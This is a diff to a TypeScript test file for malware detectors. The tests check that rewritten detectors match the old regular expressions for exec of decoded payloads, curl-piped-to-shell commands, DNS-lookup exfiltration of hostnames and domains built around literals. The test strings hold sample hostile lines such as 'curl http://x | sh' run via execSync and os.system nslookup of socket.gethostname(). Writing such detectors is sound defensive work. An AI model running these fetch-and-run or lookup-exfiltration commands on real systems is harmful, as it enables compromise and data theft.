@@ -2,7 +2,7 @@
 // that made those backtrack run in a child under a deadline: test/redos/rewritten-patterns.test.ts).
 import { describe, expect, it } from 'vitest';
 import { mulberry32 } from '../../../core/random.js';
-import { assignedName, fetchPipeRun, pyExecDecoded } from './detectors-text.js';
+import { assignedName, builtDomain, fetchPipeRun, IMPORT_AS, lookupOfData, PY_RESOLVER_CALL, pyExecDecoded, sinkCalls } from './detectors-text.js';
 
 const texts = (alphabet: readonly string[], count: number, maxLength: number, seed: number): string[] => {
   const next = mulberry32(seed);
@@ -44,5 +44,108 @@ describe('a Python helper that decodes and returns', () => {
   it('is an alias whatever white space its body lines start with', () => {
     expect(hits('import base64, os\ndef d(s):\n\t\n    return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
     expect(hits('import base64, os\n  def d(s):\n  \t return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
+  });
+});
+
+describe('the calls that run code', () => {
+  // The expression sinkCalls replaces: the builtins lookup read `[^)]*` from each head to the first `)`.
+  const OLD = /(?<![\w.])(?:exec|eval|compile|execfile)\s*\(|\bos\.(?:system|popen)\s*\(|\bsubprocess\.(?:call|run|Popen|check_output|check_call|getoutput)\s*\(|\bgetattr\s*\(\s*__builtins__[^)]*\)\s*\(|\bbuiltins\s*\.\s*(?:exec|eval)\s*\(/g;
+  const pieces = ['getattr', '__builtins__', 'getattr(__builtins__', 'getattr ( __builtins__, ', '(', ')', ')(', ') \n(', ' ', '\n', 'exec', 'eval(', 'os.system(', 'subprocess.run (', 'builtins . exec(', 'x', '.', '_', "'exec'", 'compile'];
+
+  it('finds the matches of the expression they replace, with the same text', () => {
+    const next = mulberry32(11);
+    for (let k = 0; k < 30_000; k++) {
+      let code = '';
+      const n = 1 + Math.floor(next() * 14);
+      for (let j = 0; j < n; j++) code += pieces[Math.floor(next() * pieces.length)] as string;
+      const expected = [...code.matchAll(OLD)].map((m) => `${m.index}:${m[0]}`);
+      expect([...sinkCalls(code)].map((m) => `${m.index}:${m.text}`), JSON.stringify(code)).toEqual(expected);
+    }
+  });
+
+  it("a decoder in a call past the file's budget of argument text is still found at the start of its arguments", () => {
+    const hits = (code: string): number => pyExecDecoded({ code, path: 'a.py' } as Parameters<typeof pyExecDecoded>[0]).length;
+    // 1,100 unclosed calls of 8,000 characters spend the 8 MiB budget; the call after them reads its first 256
+    const padding = `exec(${'x'.repeat(7994)}\n`.repeat(1100);
+    expect(hits(`${padding}\nexec(base64.b64decode(${'"QQ==" + '.repeat(10)}"QQ=="))\n`)).toBe(1);
+    expect(hits(`${padding}\nexec(${'a'.repeat(300)} + base64.b64decode("QQ=="))\n`)).toBe(0);
+    // the same decoder call before the budget is spent is read whole
+    expect(hits(`exec(${'a'.repeat(300)} + base64.b64decode("QQ=="))\n`)).toBe(1);
+  });
+});
+
+describe('a command string run through the name it is assigned to', () => {
+  const hits = (code: string): number => fetchPipeRun({ code, path: 'a.js' } as Parameters<typeof fetchPipeRun>[0]).length;
+
+  it('counts only a process call whose arguments hold the whole name', () => {
+    expect(hits('const cmd = "curl http://x | sh";\nexecSync(cmd, { stdio: "inherit" });\n')).toBe(1);
+    expect(hits('const cmd = "curl http://x | sh";\nexecSync(cmd2);\nexecSync(my_cmd);\nexecSync($cmd);\n')).toBe(0);
+    expect(hits('const $c = "curl http://x | sh";\nchild_process.exec(`${$c}`);\n')).toBe(1);
+    expect(hits('const cmd = "curl http://x | sh";\nconsole.log(cmd);\n')).toBe(0);
+    // the name beyond the first 2,000 characters of the call's arguments is not read
+    expect(hits(`const cmd = "curl http://x | sh";\nexecSync(${'a'.repeat(2000)}, cmd);\n`)).toBe(0);
+  });
+});
+
+describe('a lookup followed through the assignments', () => {
+  const hits = (code: string): number => lookupOfData({ code, path: 'a.py' } as Parameters<typeof lookupOfData>[0]).length;
+
+  it('finds data in the texts that fit its room, and not past it', () => {
+    const call = 'os.system("nslookup %s.example.com" % name)\n';
+    expect(hits(`name = socket.gethostname()\n${call}`)).toBe(1);
+    // 40 texts of 2,000 characters fill the 64 KiB a lookup gathers; data assigned after them is not read
+    const filler = `name = "${'a'.repeat(1990)}"\n`.repeat(40);
+    expect(hits(`name = socket.gethostname()\n${filler}${call}`)).toBe(1);
+    expect(hits(`${filler}name = socket.gethostname()\n${call}`)).toBe(0);
+  });
+});
+
+describe('decoders imported under another name', () => {
+  const OLD = /\bimport\s+[^\n]*?\b(b64decode|decompress|loads|b32decode|unhexlify|decodebytes|urlopen|Fernet)\s+as\s+(\w+)/g;
+  const pieces = ['import', 'import ', 'import\n', 'import(', '\t', '\n\t ', 'importlib ', 'from base64 ', 'b64decode', 'loads', ' as ', ' as\n', 'as', 'd', 'x1', ',', ' ', '\n', '\t', 'Fernet', '_b64decode'];
+
+  it('gives the aliases the expression gave, in order', () => {
+    const next = mulberry32(23);
+    for (let k = 0; k < 30_000; k++) {
+      let code = '';
+      const n = 1 + Math.floor(next() * 14);
+      for (let j = 0; j < n; j++) code += pieces[Math.floor(next() * pieces.length)] as string;
+      expect([...code.matchAll(IMPORT_AS)].map((m) => m[2]), JSON.stringify(code)).toEqual([...code.matchAll(OLD)].map((m) => m[2]));
+    }
+  });
+});
+
+describe('resolver calls', () => {
+  const OLD = /\b(?:socket\.)?(?:gethostbyname(?:_ex)?|getaddrinfo)\s*\(|\b(?:dns\.resolver|\w*[Rr]esolver\w*)\.(?:query|resolve)\s*\(/g;
+  const pieces = ['resolver', 'Resolver', 'res', 'dns.', 'dns.resolver', '.query', '.resolve', '(', ' (', 'a', '_', '9', '.', ' ', 'socket.', 'gethostbyname', '_ex', 'getaddrinfo', 'r'];
+
+  it('are found where the expression found them, with the same text', () => {
+    const next = mulberry32(41);
+    for (let k = 0; k < 30_000; k++) {
+      let code = '';
+      const n = 1 + Math.floor(next() * 12);
+      for (let j = 0; j < n; j++) code += pieces[Math.floor(next() * pieces.length)] as string;
+      const at = (re: RegExp): string[] => [...code.matchAll(re)].map((m) => `${m.index}:${m[0]}`);
+      expect(at(PY_RESOLVER_CALL), JSON.stringify(code)).toEqual(at(OLD));
+    }
+  });
+});
+
+describe('names built around a literal domain', () => {
+  const OLD = /(?:\{[^}\n]*\}|%s|['"]\s*\+|\+\s*[rbuf]*['"])[^'"\n]*\.[A-Za-z][\w-]*\.[A-Za-z]{2,}|\.[A-Za-z][\w-]*\.[A-Za-z]{2,}['"]\s*(?:%|\.format\s*\()/;
+  const pieces = ['{', '}', '{x}', '%s', '%', 's', "'", '"', '+', ' + ', '+ r"', 'rb', 'f', 'u', '\n', ' ', '\t', '\u00a0', '.', '.a', '.com', '.example', 'a', 'B', '-', '_', '9', '.format(', '.format (', ' % ', 'ab', 'x'];
+
+  it('answer what the expression answered', () => {
+    const next = mulberry32(43);
+    let built = 0;
+    for (let k = 0; k < 100_000; k++) {
+      let text = '';
+      const n = 1 + Math.floor(next() * 14);
+      for (let j = 0; j < n; j++) text += pieces[Math.floor(next() * pieces.length)] as string;
+      const expected = OLD.test(text);
+      expect(builtDomain(text), JSON.stringify(text)).toBe(expected);
+      if (expected) built++;
+    }
+    expect(built).toBeGreaterThan(2_000);
   });
 });
